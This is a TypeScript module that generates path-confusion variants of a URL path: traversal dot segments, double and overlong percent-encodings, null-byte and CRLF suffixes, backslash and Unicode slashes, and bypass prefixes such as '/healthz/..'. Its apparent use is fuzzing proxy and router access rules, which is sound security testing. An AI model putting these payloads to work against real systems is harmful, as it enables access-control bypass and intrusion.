// Alternative encodings of a path that some proxy or router treats as equivalent.

const DOTS = ['.', '..', '%2e', '%2e%2e', '.%2e', '%2e.', '%252e%252e', '%c0%ae%c0%ae', '%EF%BC%8E']
const ENDS = [
  ';',
  ';x=1',
  '.',
  '%20',
  '%00',
  '%00.css',
  '.json',
  '#',
  '%23',
  '%3f',
  '?',
  '~',
  '%09',
  '%0d%0a',
]
const SLASHES = ['//', '///', '/./', '%2f', '%2F', '%252f', '\\', '%5c', '/\\', '∕', '%e2%88%95', '/;/']
const PREFIXES = ['/', '/.', '/nl/..', '/healthz/..', '/healthz/%2e%2e', '/assets/..;', '/badge/../', '/%2e']
const PATH_ENDS = ['/', '//', '/.', '?', '??', '#x', '&', '%3Fx', '/%2e%2e/%2e%2e/companies']

/** Encodings of `path` as request targets; absolute forms use `host`. */
export function pathEncodings(path: string, host: string): string[] {
  const segments = path.slice(1).split('/')
  const each = segments.flatMap((segment, at) =>
    segmentEncodings(segment).map(written => `/${segments.with(at, written).join('/')}`),
  )
  return [
    ...each,
    ...SLASHES.map(slash => `/${segments.join(slash)}`),
    ...PREFIXES.map(prefix => prefix + path),
    ...PATH_ENDS.map(end => path + end),
    ...absoluteForms(path, host),
  ]
}

function segmentEncodings(segment: string): string[] {
  const dotted = DOTS.flatMap(dots => [`${dots}/${segment}`, `x/${dots}/${segment}`, `${segment}/${dots}`])
  return [
    segment.toUpperCase(),
    percent(segment),
    percent(percent(segment)),
    ...dotted,
    ...ENDS.map(end => segment + end),
    `${segment};/..`,
    `;/${segment}`,
    `x%2f..%2f${segment}`,
    `x%5c..%5c${segment}`,
    `x\\..\\${segment}`,
  ]
}

function percent(text: string): string {
  return text.replace(/./g, sign => `%${sign.charCodeAt(0).toString(16).padStart(2, '0')}`)
}

function absoluteForms(path: string, host: string): string[] {
  const schemes = ['http://', 'https://', 'HTTP://', '//', 'http://user:pass@']
  return [
    ...schemes.map(scheme => scheme + host + path),
    `http://elsewhere.example${path}`,
    `file://${path}`,
    path.slice(1),
    `*${path}`,
  ]
}
